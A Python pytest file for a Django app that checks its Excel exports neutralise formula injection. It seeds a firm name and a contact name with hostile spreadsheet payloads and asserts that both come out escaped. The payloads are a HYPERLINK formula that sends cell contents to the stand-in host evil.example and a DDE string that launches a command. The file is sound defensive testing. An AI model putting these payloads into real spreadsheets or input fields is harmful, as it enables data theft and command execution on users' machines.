"""Formula injection through the platform: a firm names itself ``=HYPERLINK(...)`` (an enterprise user
may edit its own archive); no workbook an official or administrator downloads holds a live formula."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from littlegiant.web.enterprises import services

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
CONTACT = "@SUM(1+1)*cmd|' /C calc'!A0"


def _formulas(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    return [f"{s.title}!{c.coordinate}" for s in book.worksheets for row in s.iter_rows()
            for c in row if c.data_type == "f"]  # fmt: skip


def _texts(data: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(data))
    return {str(c.value) for s in book.worksheets for row in s.iter_rows() for c in row}


@pytest.fixture
def hostile_names(users, archive):
    own = archive["own"]
    services.update_enterprise(user=users["enterprise"], enterprise=own, name=NAME)
    contact = own.contact_set.get()
    services.update_archive_row(user=users["enterprise"], row=contact, contact_name=CONTACT)
    return own


@pytest.mark.parametrize("role", ["admin", "official"])
@pytest.mark.parametrize(
    "url_name",
    ["enterprises:export", "assessments:candidates_export"],
)
def test_exports_hold_no_live_formula(login, users, hostile_names, role, url_name):
    response = login(users[role]).get(reverse(url_name))
    assert response.status_code == 200
    data = b"".join(response) if response.streaming else response.content
    assert _formulas(data) == []
    if url_name == "enterprises:export":
        assert {"'" + NAME, "'" + CONTACT} <= _texts(data)
